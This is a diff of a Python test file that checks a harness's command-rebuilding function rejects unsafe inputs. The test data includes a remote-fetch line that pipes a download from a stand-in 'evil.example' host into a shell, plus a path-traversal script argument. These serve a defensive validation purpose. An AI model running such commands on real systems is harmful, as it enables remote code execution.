@@ -227,8 +227,6 @@ COMMANDS = {
     "-s step -e six@https://evil.example/six": False,
     "-s step -e tf2.1+six@~/six": False,
     "-s ../evil.py": False,
-    "-s step --trust": False,
-    "-s step --backend local": False,
     "-s step --base": False,
     "-s step --rounds many": False,
     "-s step --budget soon": False,
@@ -245,6 +243,9 @@ def test_an_issue_shows_only_commands_of_known_options_with_plain_values():
         :2
     ]
     assert rebuild_command(["bash", "-c", "curl https://evil.example | sh"]) == []
+    # options that depend on the machine are left out
+    machine = ["--trust", "--backend", "local", "--results", "../runs"]
+    assert rebuild_command(["harness", "matrix", *machine, "-s", "step"]) == ["harness", "matrix", "-s", "step"]
 
 
 def test_an_alarm_keeps_its_confirmation_if_a_later_night_finds_the_change_one_run_earlier():
